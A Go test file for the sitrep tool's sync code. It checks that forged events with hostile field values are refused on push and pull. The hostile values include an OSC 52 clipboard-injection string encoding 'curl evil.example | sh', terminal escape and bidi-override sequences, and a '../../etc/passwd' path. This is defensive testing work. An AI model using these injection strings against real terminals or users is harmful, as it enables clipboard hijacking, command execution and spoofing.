package sync

import (
	"context"
	"encoding/json"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/sitrep-dev/sitrep/model"
	"github.com/sitrep-dev/sitrep/storage/storagetest"
)

// forgedCase is one hostile event: a field a teammate's modified sitrep
// controls, set to something no change made here could hold. The hash and
// the chain are right, so only the check of the field can refuse it.
type forgedCase struct {
	name  string
	kind  model.EventKind
	body  any
	edit  func(*model.Event)
	field string // what the refusal must name
}

// osc52 would put a command into the clipboard of a terminal in tmux.
const osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"

func forgedCases() []forgedCase {
	note := model.NotePayload{Kind: model.NoteKindNote, Text: "looks harmless"}
	return []forgedCase{
		{"OSC 52 in the kind", "note" + osc52, note, nil, "event kind"},
		{"clear screen in the kind", "evil\x1b[2J", note, nil, "event kind"},
		{"title OSC in the author", model.EventNote, note, func(e *model.Event) { e.Author = "mallory\x1b]0;pwned\x07" }, "author"},
		{"bidi override in the author", model.EventNote, note, func(e *model.Event) { e.Author = "\u202eecila" }, "author"},
		{"escape in the event id", model.EventNote, note, func(e *model.Event) { e.ID = "0190\x1b[2J" }, "event id"},
		{"path in the event id", model.EventNote, note, func(e *model.Event) { e.ID = "../../etc/passwd" }, "event id"},
		{"OSC 52 in the incident id", model.EventNote, note, func(e *model.Event) { e.IncidentID += osc52 }, "incident id"},
		{"escape in the store id", model.EventNote, note, func(e *model.Event) { e.Origin = "store\x1b[2J" }, "store id"},
		{"escape in the note kind", model.EventNote, json.RawMessage(`{"kind":"note\u001b[2J","text":"hi"}`), nil, "note kind"},
		{"escape in the role name", model.EventRoleAssigned, model.RoleAssignedPayload{Role: "commander\x1b[2J", Holder: "mallory"}, nil, "role"},
		{"OSC 52 in the role holder", model.EventRoleAssigned, model.RoleAssignedPayload{Role: model.RoleOperations, Holder: "ops" + osc52}, nil, "role holder"},
		{"title OSC in a new title", model.EventRetitled, model.RetitledPayload{Title: "x\x1b]0;pwned\x07"}, nil, "title"},
		{"escape in a step reason", model.EventStepChanged, model.StepPayload{Runbook: "major-incident", Step: 1, Title: "t", State: model.StepBlocked, Reason: "\x1b[2J"}, nil, "reason"},
		{"a 2 MiB runbook", model.EventRunbookAttached, model.RunbookAttachedPayload{Name: "big", Title: "Big", Source: "team", Text: strings.Repeat("- [ ] step\n", 2<<20/11)}, nil, "1 MiB"},
		{"the year 10000", model.EventNote, note, func(e *model.Event) { e.At = time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC); e.Occurred = e.At }, "year 10000"},
		{"the year -1", model.EventNote, note, func(e *model.Event) { e.Occurred = time.Date(-1, 1, 1, 0, 0, 0, 0, time.UTC) }, "year -1"},
		{"escape in an action item", model.EventReviewSaved, model.ReviewPayload{Review: model.Review{ActionItems: []model.ActionItem{{Title: "fix\x1b[2J", Status: model.ActionOpen}}}}, nil, "action item title"},
		{"OSC 52 in an inject title", model.EventExerciseStarted, model.ExerciseStartedPayload{Scenario: "dr", Title: "DR", Hash: "x", Text: "# DR", Start: time.Now(),
			Injects: []model.Inject{{Title: "region down" + osc52}}}, nil, "inject title"},
		{"a payload that is not a note", model.EventNote, json.RawMessage(`{"kind":7}`), nil, "payload"},
		{"OSC 52 in a command's output", model.EventEvidence, model.EvidencePayload{Command: "ls", Output: "a\n" + osc52 + "b\n", OutputBytes: 40}, nil, "output"},
		{"bidi override in a command", model.EventEvidence, model.EvidencePayload{Command: "ls \u202etxt.sh"}, nil, "command"},
		{"escape in a command's host", model.EventEvidence, model.EvidencePayload{Command: "ls", Host: "db1\x1b[2J"}, nil, "host"},
		{"a 100 KB output", model.EventEvidence, model.EvidencePayload{Command: "seq", Output: strings.Repeat("9\n", 50<<10), OutputBytes: 100 << 10}, nil, "output"},
		{"exit status 999", model.EventEvidence, model.EvidencePayload{Command: "ls", Exit: 999}, nil, "exit status"},
	}
}

// Forged events are refused where they arrive, in both directions of a
// real sync: the hub refuses a push holding one, and a store refuses a pull
// from a hub that holds one (written there with sqlite3). The refusal names
// the author and the event, and nothing of the batch is stored.
func TestSyncRefusesForgedEvents(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	hub := filepath.Join(dir, "team.db")
	alice := openStore(t, filepath.Join(dir, "a.db"), "alice", nil)
	mallory := openStore(t, filepath.Join(dir, "m.db"), "mallory", nil)
	in := declare(t, alice, "Checkout 500s")
	mustSync(t, alice, hub, localOpts())
	mustSync(t, mallory, hub, localOpts())
	hubSt := openHub(t, hub)

	for _, c := range forgedCases() {
		t.Run(c.name, func(t *testing.T) {
			f := &storagetest.Forger{Origin: mallory.ID(), Author: "mallory@evil"}
			e := f.Event(in, c.kind, c.body, c.edit)
			// Push: mallory's store holds it (edited in with sqlite3), her
			// sync sends it, the hub refuses the batch.
			hubBefore := eventIDs(t, hubSt)
			if err := storagetest.Insert(ctx, mallory, e); err != nil {
				t.Fatal(err)
			}
			err := syncFails(t, mallory, hub, localOpts())
			checkRefusal(t, "push", err, e, c.field)
			if got := eventIDs(t, hubSt); len(got) != len(hubBefore) || got[e.ID] {
				t.Errorf("push: the hub stored the forged event (%d events, had %d)", len(got), len(hubBefore))
			}
			if _, err := mallory.DB().ExecContext(ctx, `DELETE FROM events WHERE hash = ?`, e.Hash); err != nil {
				t.Fatal(err)
			}
			mustSync(t, mallory, hub, localOpts())

			// Pull: the hub holds it, alice's sync refuses it.
			aliceBefore := eventIDs(t, alice)
			if err := storagetest.Insert(ctx, hubSt, e); err != nil {
				t.Fatal(err)
			}
			err = syncFails(t, alice, hub, localOpts())
			checkRefusal(t, "pull", err, e, c.field)
			if got := eventIDs(t, alice); len(got) != len(aliceBefore) || got[e.ID] {
				t.Errorf("pull: alice stored the forged event")
			}
			if _, err := hubSt.DB().ExecContext(ctx, `DELETE FROM events WHERE hash = ?`, e.Hash); err != nil {
				t.Fatal(err)
			}
		})
	}
	// A kind from a newer sitrep is still welcome: refusing it would split
	// a team over an upgrade.
	f := &storagetest.Forger{Origin: mallory.ID(), Author: "mallory"}
	e := f.Event(in, "future.thing", map[string]int{"n": 1}, nil)
	if err := storagetest.Insert(ctx, mallory, e); err != nil {
		t.Fatal(err)
	}
	mustSync(t, mallory, hub, localOpts())
	mustSync(t, alice, hub, localOpts())
	if !eventIDs(t, alice)[e.ID] {
		t.Error("an event of a newer kind did not reach alice")
	}
}

// checkRefusal checks a refusal names the event, its author and the field,
// and carries no raw control character.
func checkRefusal(t *testing.T, dir string, err *Error, e model.Event, field string) {
	t.Helper()
	msg := err.Error()
	t.Logf("%s: %s", dir, msg)
	for _, want := range []string{quoted(e.ID), quoted(e.Author), field} {
		if !strings.Contains(msg, want) {
			t.Errorf("%s: the refusal does not name %q: %s", dir, want, msg)
		}
	}
	if strings.ContainsAny(msg, "\x1b\x07\u202e") {
		t.Errorf("%s: the refusal carries a control character: %q", dir, msg)
	}
}

// quoted is how a refusal writes a field: plain when it is, else Go-quoted.
func quoted(s string) string {
	if model.ValidID("", s) == nil || model.ValidName("", s) == nil && !strings.ContainsAny(s, " \\\"'") {
		return s
	}
	q := strconv.Quote(s)
	return q[1 : len(q)-1] // the error may cut or re-quote the outer quotes
}
